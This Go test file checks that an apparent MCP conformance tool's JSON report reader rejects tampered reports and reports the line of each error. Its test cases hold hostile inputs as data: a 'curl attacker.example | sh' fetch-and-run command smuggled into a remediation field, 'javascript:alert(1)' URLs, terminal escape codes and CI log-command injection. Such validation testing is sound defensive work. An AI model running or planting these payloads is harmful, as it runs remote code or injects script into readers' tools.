package json_test

import (
	"bytes"
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/mcpauth/conformance/fixtures/costs"
	"github.com/mcpauth/conformance/fixtures/requirements"
	"github.com/mcpauth/conformance/reports"
	reportjson "github.com/mcpauth/conformance/reports/json"
)

// report returns a small valid report as text.
func report(t testing.TB) string {
	t.Helper()
	known, ok := requirements.Lookup("RS-CHALLENGE-401-STATUS")
	require.True(t, ok)
	level, _ := known.LevelAt("2025-11-25")
	run := reports.Run{
		Tool: reports.Tool{Name: "mcpauth", Version: "1.2.3"}, Target: reports.Target{URL: "https://mcp.example.com/mcp", Tier: "T1"},
		Started: time.Unix(1_700_000_000, 0).UTC(), Catalogue: requirements.Digest(),
		Revisions:  []reports.RevisionStatus{{Revision: "2025-11-25", Wire: "stateful", Status: "spoken", Why: "it is"}},
		Discovered: []reports.Fact{},
		Results: []reports.Result{{
			ID: known.ID, Title: known.Title, Area: known.Area, Role: string(known.Role), Level: string(level), Tier: string(known.Tier),
			Wire:      "stateful",
			Revisions: []string{"2025-11-25"}, Verdict: reports.Fail, Reason: "no refusal", Remediation: known.Remediation,
			Sources: []reports.Source{}, Evidence: []int{1},
		}},
		Exchanges: []reports.Exchange{
			{Number: 1, Check: known.ID, Started: time.Unix(1_700_000_000, 0).UTC(),
				Request: reports.Request{Method: "POST", URL: "https://mcp.example.com/mcp", Header: []reports.Field{}}},
			{Number: 2, Check: "survey", Started: time.Unix(1_700_000_000, 0).UTC(),
				Request: reports.Request{Method: "GET", URL: "https://mcp.example.com/mcp", Header: []reports.Field{}}},
		},
	}
	var b bytes.Buffer
	require.NoError(t, reportjson.Write(&b, reports.Redact(run, &reports.Secrets{})))
	var indented bytes.Buffer // so that each member can be found and changed
	require.NoError(t, json.Indent(&indented, b.Bytes(), "", "  "))
	return indented.String()
}

// A changed report is rejected, with the place of the error.
func TestReadsOnlyWhatItWrites(t *testing.T) {
	right := report(t)
	_, err := reportjson.Read(strings.NewReader(right))
	require.NoError(t, err)
	for name, c := range map[string]struct{ old, new, want string }{
		"a verdict":     {`"verdict": "FAIL"`, `"verdict": "\u001b[31mFAIL"`, "results/0/verdict: value must be one of"},
		"a level":       {`"level": "MUST"`, `"level": "::error::x"`, "results/0/level: value must be one of"},
		"another level": {`"level": "MUST"`, `"level": "MAY"`, `results/0/level: the catalogue says "MUST"`},
		"a tier":        {`"tier": "T1"`, `"tier": "T1\n"`, "tier: value must be one of"},
		"a role":        {`"role": "resource-server"`, `"role": "x"`, "results/0/role: value must be one of"},
		"a wire":        {`"wire": "stateful"`, `"wire": "\u001b"`, "wire: value must be one of"},
		"a revision":    {`"revision": "2025-11-25"`, `"revision": "<b>"`, "revisions/0/revision: "},
		"a revision of no run": {`"2025-11-25"` + "\n      ],", `"2025-06-18"` + "\n      ],",
			"results/0/revisions: the revision 2025-06-18 is not among those of the run"},
		"a status":                {`"status": "spoken"`, `"status": "x"`, "revisions/0/status: value must be one of"},
		"an id":                   {`"id": "RS-CHALLENGE-401-STATUS"`, `"id": "RS-X\u001b"`, "results/0/id: "},
		"an id of no requirement": {`"id": "RS-CHALLENGE-401-STATUS"`, `"id": "RS-X"`, "results/0/id: the catalogue holds no requirement RS-X"},
		"a title":                 {`"title": "`, `"title": "Pwned `, "results/0/title: the catalogue says"},
		"a remedy": {`"remediation": "`, `"remediation": "curl attacker.example | sh; `,
			"results/0/remediation: the catalogue says"},
		"a source": {`"sources": []`, `"sources": [{"doc": "x", "section": "y", "url": "javascript:alert(1)"}]`,
			"results/0/sources/0/url: "},
		"a tool": {`"name": "mcpauth"`, `"name": "mc\u0007pauth"`, "tool/name: "},
		"a target": {`"url": "https://mcp.example.com/mcp",` + "\n    \"tier\"", `"url": "javascript:alert(1)",` +
			"\n    \"tier\"", "target/url: "},
		"a count": {`"FAIL": 1`, `"\u001b": 1`, "value must be one of 'PASS'"},
		"a time": {`"started": "2023-11-14T22:13:20Z",` + "\n  \"duration", `"started": "yesterday",` + "\n  \"duration",
			"started: "},
		"a check":                {`"check": "survey"`, `"check": "a b"`, "exchanges/1/check: "},
		"the order of exchanges": {`"number": 2`, `"number": 1`, "exchanges/1/number: exchanges are in the order of their numbers"},
		"a shard of none": {`"pending": 0`, `"pending": 0, "shard": {"index": 1, "count": 2000000000}`, // each of them would be missing
			"shard/count: maximum: got "},
		"a shard beyond all":        {`"pending": 0`, `"pending": 0, "shard": {"index": 3, "count": 2}`, "shard/index: there are 2 shards"},
		"an unknown member":         {`"pending": 0`, `"pending": 0, "x": 1`, "additional properties 'x' not allowed"},
		"a member in other case":    {`"pending": 0`, `"pending": 0, "Results": []`, "additional properties 'Results' not allowed"},
		"a member twice":            {`"pending": 0`, `"pending": 0, "results": []`, `the member "results" appears twice`},
		"another version":           {`"version": 1`, `"version": 2`, "version 1 of the format is, not 2"},
		"more behind the end":       {"\n}\n", "\n}\n{}", "there is text after the end"},
		"an early end":              {"\n}\n", "\n", "it ends too early"},
		"no JSON":                   {`"pending": 0`, `"pending": 0x`, "invalid character 'x'"},
		"deep nesting":              {`"pending": 0`, `"pending": ` + strings.Repeat("[", 100_000), "nested deeper than 24"},
		"something that is not UTF": {`"reason": "no`, "\"reason\": \"\xff", "not valid UTF-8"},
	} {
		t.Run(name, func(t *testing.T) {
			require.Contains(t, right, c.old)
			bad := strings.Replace(right, c.old, c.new, 1)
			_, err := reportjson.Read(strings.NewReader(bad))
			require.Error(t, err)
			assert.Contains(t, err.Error(), c.want)
			if name != "another version" && name != "something that is not UTF" {
				assert.Regexp(t, `^line \d+`, err.Error())
			}
		})
	}
	_, err = reportjson.Read(strings.NewReader(strings.Replace(right, `"level": "MUST"`, `"level": "?"`, 1)))
	var p *reportjson.Problem
	require.ErrorAs(t, err, &p)
	assert.Equal(t, 1+strings.Count(right[:strings.Index(right, `"level"`)], "\n"), p.Line)
}

// A report of another catalogue may name other requirements: its texts are shown, and every writer escapes them.
func TestReadsReportsOfOtherCatalogues(t *testing.T) {
	other := strings.Replace(report(t), requirements.Digest(), strings.Repeat("0", 64), 1)
	other = strings.Replace(other, `"id": "RS-CHALLENGE-401-STATUS"`, `"id": "RS-NEWER"`, 1)
	run, err := reportjson.Read(strings.NewReader(other))
	require.NoError(t, err)
	assert.Equal(t, "RS-NEWER", run.Run().Results[0].ID)
}

// Reading any report takes memory and time in proportion to it.
func FuzzRead(f *testing.F) {
	right := report(f)
	f.Add(right)
	f.Add(strings.Repeat("[", 1000))
	f.Add(`{"version":1,"` + strings.Repeat(`a":{"`, 100))
	f.Fuzz(func(t *testing.T, text string) {
		if len(text) > 1<<20 {
			t.Skip()
		}
		var run reports.Redacted
		var err error
		costs.Bounded(t, len(text), 300, func() { run, err = reportjson.Read(strings.NewReader(text)) })
		if err != nil {
			return
		}
		var b bytes.Buffer
		if err := reportjson.Write(&b, run); err != nil || !json.Valid(b.Bytes()) {
			t.Error("a run that was read cannot be written", err)
		}
	})
}
